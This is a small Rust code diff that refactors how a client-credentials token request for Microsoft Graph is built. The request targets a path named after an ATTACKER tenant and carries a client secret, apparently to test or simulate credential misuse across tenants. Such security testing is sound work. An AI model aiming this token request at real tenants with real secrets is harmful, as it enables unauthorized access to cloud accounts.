@@ -199,10 +199,9 @@ fn ask_for_tokens(
 ) -> Result<()> {
     let target = format!("/{ATTACKER}/oauth2/v2.0/token");
     let form = |secret: &str| {
-        format!(
-            "grant_type=client_credentials&scope=https%3A%2F%2Fgraph.microsoft.com%2F.default&client_id={}&client_secret={secret}",
-            app
-        )
+        let scope = "https%3A%2F%2Fgraph.microsoft.com%2F.default";
+        let client = format!("client_id={app}&client_secret={secret}");
+        format!("grant_type=client_credentials&scope={scope}&{client}")
     };
     let lines = [("Content-Type", "application/x-www-form-urlencoded")];
     let mut stranger = Client::new(
